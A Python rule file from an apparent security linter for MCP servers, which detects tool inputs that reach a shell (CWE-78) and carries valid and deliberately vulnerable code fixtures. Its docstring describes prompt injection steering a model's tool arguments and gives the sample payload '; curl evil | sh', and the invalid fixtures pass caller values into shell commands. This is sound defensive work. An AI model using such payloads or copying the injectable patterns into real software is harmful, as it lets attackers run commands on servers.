from ..models import Confidence, Severity
from ..rule import Invalid, Rule, Valid


class ToolShellInjection(Rule):
    """
    ## What it does
    Follows every parameter of an MCP handler (FastMCP tools, resources and prompts, the
    low-level ``call_tool`` arguments) through assignments, string building, containers and
    helper functions in any module, and reports when it reaches a shell or a program launcher:
    ``subprocess.*(..., shell=True)``, ``os.system``, ``os.popen``, ``asyncio.create_subprocess_shell``,
    ``pty.spawn``, ``os.exec*``/``os.spawn*``, an argv whose program comes from the caller, or
    ``["sh", "-c", value]``. A project validator it cannot prove keeps a split command line in
    the audit view (it may fix the program), unless its program allow-list holds programs that run
    other programs (``xargs``, ``env``, ``find -exec``, ``awk``, a shell): then the caller still runs
    any program.

    ## Why is this bad
    The model decides the arguments of a tool call, and whoever controls the prompt (a web page,
    a file, an e-mail the model reads) steers the model. A value that reaches a shell lets them
    run any command with the server's privileges: ``; curl evil | sh``.

    ## Remediation
    Pass an argv list without a shell (``subprocess.run(["git", "log", "--", ref])``), choose the
    program from a fixed allow-list without launchers, and validate the value first.
    ``shlex.quote`` is the last resort for a value that must go into a shell string.
    """

    ID = "tool-shell-injection"
    SUMMARY = "MCP tool input reaches a shell or program launcher (OS command injection)"
    SEVERITY = Severity.CRITICAL
    CONFIDENCE = Confidence.HIGH
    CWE = ("CWE-78",)
    TAGS = ("injection", "command")
    FAMILY = "shell"
    FIX = "Run an argv list without shell=True, pick the program from an allow-list, and validate the value."
    VALID = [
        Valid(
            '''
            import subprocess
            from mcp.server.fastmcp import FastMCP

            mcp = FastMCP("ops")

            @mcp.tool()
            def ping(host: str) -> str:
                return subprocess.run(["ping", "-c", "1", "--", host], capture_output=True, text=True).stdout
            '''
        ),
        Valid(
            '''
            import os
            from mcp.server.fastmcp import FastMCP

            mcp = FastMCP("ops")

            @mcp.tool()
            def uptime() -> str:
                return os.popen("uptime").read()
            '''
        ),
        Valid(
            '''
            import shlex, subprocess
            from mcp.server.fastmcp import FastMCP

            mcp = FastMCP("ops")

            @mcp.tool()
            def count_lines(name: str) -> str:
                return subprocess.check_output(f"wc -l {shlex.quote(name)}", shell=True).decode()
            '''
        ),
    ]
    INVALID = [
        Invalid(
            '''
            import subprocess as sp
            from mcp.server.fastmcp import FastMCP

            mcp = FastMCP("ops")

            @mcp.tool()
            async def git_log(branch: str) -> str:
                result = sp.run(f"git log --oneline {branch}", shell=True, capture_output=True, text=True)
                return result.stdout
            ''',
            8,
        ),
        Invalid(
            '''
            from os import system
            from fastmcp import FastMCP

            mcp = FastMCP("ops")

            def _ping(target):
                return system(f"ping -c 1 {target}")

            @mcp.tool
            def ping(host: str) -> int:
                return _ping(host)
            ''',
            7,
        ),
        Invalid(
            '''
            import subprocess
            from mcp.server.fastmcp import FastMCP

            mcp = FastMCP("ops")

            @mcp.tool(name="build")
            def build(target: str) -> str:
                return subprocess.check_output(["bash", "-c", f"cd /srv/app && make {target}"]).decode()
            ''',
            8,
        ),
    ]
